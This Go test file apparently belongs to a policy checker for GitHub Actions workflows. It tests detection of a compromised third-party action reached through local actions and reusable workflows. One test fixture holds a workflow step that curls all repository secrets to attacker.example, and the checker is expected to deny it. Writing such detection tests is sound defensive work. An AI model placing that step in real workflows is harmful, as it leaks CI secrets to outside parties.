package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	git "github.com/go-git/go-git/v5"
	"github.com/go-git/go-git/v5/plumbing"
	"github.com/go-git/go-git/v5/plumbing/object"

	"github.com/runpolicy/runpolicy/test/harness"
)

// gitRepo makes a git repository on branch main with files committed, and
// returns its working tree.
func gitRepo(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	r, err := git.PlainInitWithOptions(dir, &git.PlainInitOptions{InitOptions: git.InitOptions{DefaultBranch: plumbing.NewBranchReferenceName("main")}})
	if err != nil {
		t.Fatal(err)
	}
	wt, err := r.Worktree()
	if err != nil {
		t.Fatal(err)
	}
	for p, content := range files {
		mustWrite(t, filepath.Join(dir, p), content)
		if _, err := wt.Add(p); err != nil {
			t.Fatal(err)
		}
	}
	sig := &object.Signature{Name: "test", Email: "test@example.com", When: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)}
	if _, err := wt.Commit("main", &git.CommitOptions{Author: sig, Committer: sig}); err != nil {
		t.Fatal(err)
	}
	return dir
}

const (
	changedAction = `name: changed
runs:
  using: composite
  steps:
    - uses: tj-actions/changed-files@v44
`
	ciWorkflow = `on: push
jobs:
  changed:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: %s
`
)

// TestEvalLocalOffline: eval reads the repository's own composite actions
// and reusable workflows from the checkout, without --resolve or network,
// wherever it is run from, and leaves other repositories unread as before.
func TestEvalLocalOffline(t *testing.T) {
	repo := gitRepo(t, map[string]string{
		".github/actions/changed/action.yml": changedAction,
		".github/workflows/ci.yml":           strings.Replace(ciWorkflow, "%s", "./.github/actions/changed", 1),
		".github/workflows/call.yml":         "on: push\njobs:\n  call:\n    uses: ./.github/workflows/reusable.yml\n",
		".github/workflows/reusable.yml":     "on: workflow_call\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./.github/actions/changed\n",
		".github/workflows/loop.yml":         "on: workflow_call\njobs:\n  again:\n    uses: ./.github/workflows/loop2.yml\n",
		".github/workflows/loop2.yml":        "on: workflow_call\njobs:\n  back:\n    uses: ./.github/workflows/loop.yml\n",
		".github/workflows/self.yml":         strings.Replace(ciWorkflow, "%s", "$/.github/actions/changed", 1),
	})
	tests := []struct {
		name, file string
		want       []string
	}{
		{"local composite action", "ci.yml", []string{"ci.yml:7: DENY compromised_actions: ./.github/actions/changed → tj-actions/changed-files@v44 is compromised"}},
		{"through a local reusable workflow", "call.yml", []string{"call.yml:4: DENY compromised_actions: ./.github/workflows/reusable.yml → ./.github/actions/changed → tj-actions/changed-files@v44 is compromised"}},
		{"self-repository reference", "self.yml", []string{"self.yml:7: DENY compromised_actions: $/.github/actions/changed → tj-actions/changed-files@v44 is compromised"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			code, out, errOut := runBinary(t, "eval", filepath.Join(repo, ".github/workflows", tt.file))
			if code != exitDenied {
				t.Fatalf("exit %d, want %d\n%s%s", code, exitDenied, out, errOut)
			}
			for _, w := range tt.want {
				if !strings.Contains(out, w) {
					t.Errorf("output lacks %q:\n%s", w, out)
				}
			}
		})
	}

	t.Run("input document", func(t *testing.T) {
		doc := inputDoc(t, filepath.Join(repo, ".github/workflows/ci.yml"))
		type use struct {
			Raw, Kind, Unresolved string
			Via                   []string
		}
		var uses []use
		if err := json.Unmarshal(doc["uses"], &uses); err != nil {
			t.Fatal(err)
		}
		if len(uses) != 3 || uses[0].Raw != "actions/checkout@v4" || uses[0].Unresolved != "" ||
			uses[2].Raw != "tj-actions/changed-files@v44" || len(uses[2].Via) != 1 || uses[2].Via[0] != "./.github/actions/changed" || uses[2].Unresolved != "" {
			t.Errorf("uses = %+v; want checkout as written, then the local action's reference via it", uses)
		}
		var res struct {
			Complete bool
			Fetches  int
			Limits   []string
		}
		if err := json.Unmarshal(doc["resolution"], &res); err != nil {
			t.Fatal(err)
		}
		if res.Complete || res.Fetches != 1 || len(res.Limits) != 0 {
			t.Errorf("resolution = %+v; want incomplete (actions/checkout not looked inside), one file read", res)
		}
	})

	t.Run("self-repository reference is local", func(t *testing.T) {
		var uses []struct{ Raw, Kind string }
		if err := json.Unmarshal(inputDoc(t, filepath.Join(repo, ".github/workflows/self.yml"))["uses"], &uses); err != nil {
			t.Fatal(err)
		}
		if len(uses) < 2 || uses[1].Kind != "local" {
			t.Errorf("uses = %+v; want $/.github/actions/changed of kind local", uses)
		}
	})

	t.Run("a cycle of local workflows ends", func(t *testing.T) {
		var res struct{ Limits []string }
		if err := json.Unmarshal(inputDoc(t, filepath.Join(repo, ".github/workflows/loop.yml"))["resolution"], &res); err != nil {
			t.Fatal(err)
		}
		if len(res.Limits) != 1 || res.Limits[0] != "cycle" {
			t.Errorf("limits = %v, want [cycle]", res.Limits)
		}
	})

	t.Run("no local reference: the document is as before", func(t *testing.T) {
		wf := filepath.Join(repo, "plain.yml")
		mustWrite(t, wf, "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n")
		if res := inputDoc(t, wf)["resolution"]; string(res) != "null" {
			t.Errorf("resolution = %s, want null", res)
		}
	})

	t.Run("--repo-root", func(t *testing.T) {
		// A copy of the workflow outside the checkout: its own folder has no
		// such action, the repository named by --repo-root does.
		elsewhere := filepath.Join(t.TempDir(), "ci.yml")
		src, err := os.ReadFile(filepath.Join(repo, ".github/workflows/ci.yml"))
		if err != nil {
			t.Fatal(err)
		}
		mustWrite(t, elsewhere, string(src))
		if code, out, errOut := runBinary(t, "eval", elsewhere); code != exitOK || !strings.Contains(out, "WARN compromised_actions") {
			t.Errorf("without --repo-root: exit %d, want %d with a warning that the local action could not be read\n%s%s", code, exitOK, out, errOut)
		}
		if code, out, errOut := runBinary(t, "eval", "--repo-root", repo, elsewhere); code != exitDenied || !strings.Contains(out, "tj-actions/changed-files@v44") {
			t.Errorf("with --repo-root: exit %d, want %d\n%s%s", code, exitDenied, out, errOut)
		}
	})

	t.Run("the remote resolver's size limit", func(t *testing.T) {
		mustWrite(t, filepath.Join(repo, ".github/actions/big/action.yml"), changedAction+"# "+strings.Repeat("x", 1<<20)+"\n")
		wf := filepath.Join(repo, ".github/workflows/big.yml")
		mustWrite(t, wf, strings.Replace(ciWorkflow, "%s", "./.github/actions/big", 1))
		code, out, errOut := runBinary(t, "eval", wf)
		if code != exitOK || strings.Contains(out, "tj-actions") || !strings.Contains(out, "over the limit") {
			t.Errorf("exit %d, want %d with the action unread as over the limit\n%s%s", code, exitOK, out, errOut)
		}
	})

	t.Run("a link out of the repository is not followed", func(t *testing.T) {
		outside := filepath.Join(t.TempDir(), "action.yml")
		mustWrite(t, outside, changedAction)
		linked := filepath.Join(repo, ".github/actions/linked")
		if err := os.MkdirAll(linked, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(outside, filepath.Join(linked, "action.yml")); err != nil {
			t.Skip("no symbolic links here:", err)
		}
		wf := filepath.Join(repo, ".github/workflows/linked.yml")
		mustWrite(t, wf, strings.Replace(ciWorkflow, "%s", "./.github/actions/linked", 1))
		code, out, errOut := runBinary(t, "eval", wf)
		if code != exitOK || strings.Contains(out, "tj-actions") || !strings.Contains(out, "WARN compromised_actions") {
			t.Errorf("exit %d, want %d with the action unread and a warning\n%s%s", code, exitOK, out, errOut)
		}
	})
}

// inputDoc runs `runpolicy input` on a workflow and returns the document's keys.
func inputDoc(t *testing.T, wf string, flags ...string) map[string]json.RawMessage {
	t.Helper()
	code, out, errOut := runBinary(t, append(append([]string{"input"}, flags...), wf)...)
	if code != exitOK {
		t.Fatalf("input: exit %d\n%s", code, errOut)
	}
	var doc map[string]json.RawMessage
	if err := json.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatal(err)
	}
	return doc
}

// TestEvalModifiedLocalCallee: with --event for a branch, a local callee of
// the checkout is compared with the default branch's copy in its git
// repository; --base covers the workflow file only.
func TestEvalModifiedLocalCallee(t *testing.T) {
	const caller = "name: ci\non: push\njobs:\n  call:\n    uses: ./.github/workflows/reusable.yml\n    secrets: inherit\n"
	const reviewed = "on: workflow_call\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"
	const exfiltrating = "on: workflow_call\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d \"${{ toJSON(secrets) }}\" https://attacker.example\n"
	payload, err := harness.WorkflowRunRequested(harness.Run{Repo: "acme/api", ID: 1, HeadSHA: strings.Repeat("3", 40), HeadBranch: "feature", Path: ".github/workflows/ci.yml"})
	if err != nil {
		t.Fatal(err)
	}
	event := filepath.Join(t.TempDir(), "event.json")
	mustWrite(t, event, string(payload))
	base := filepath.Join(t.TempDir(), "ci.yml")
	mustWrite(t, base, caller)
	for _, tc := range []struct {
		name     string
		callee   string
		branches bool // the repository has a main branch
		code     int
		want     string
	}{
		{"unmodified callee", reviewed, true, exitOK, ""},
		{"modified callee", exfiltrating, true, exitDenied, "runs .github/workflows/reusable.yml, which differs from main"},
		{"no default branch to compare with", reviewed, false, exitDenied, "runs .github/workflows/reusable.yml, which could not be compared with main"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			files := map[string]string{".github/workflows/ci.yml": caller, ".github/workflows/reusable.yml": reviewed}
			var repo string
			if tc.branches {
				repo = gitRepo(t, files)
			} else {
				repo = t.TempDir()
				for p, c := range files {
					mustWrite(t, filepath.Join(repo, p), c)
				}
			}
			mustWrite(t, filepath.Join(repo, ".github/workflows/reusable.yml"), tc.callee) // the branch's working tree
			code, out, errOut := runBinary(t, "eval", "--event", event, "--base", base, filepath.Join(repo, ".github/workflows/ci.yml"))
			if code != tc.code {
				t.Fatalf("exit %d, want %d\n%s%s", code, tc.code, out, errOut)
			}
			if tc.want != "" && !strings.Contains(out, "DENY secret_exfiltration") || !strings.Contains(out, tc.want) {
				t.Errorf("output lacks a secret_exfiltration denial with %q:\n%s", tc.want, out)
			}
		})
	}
}
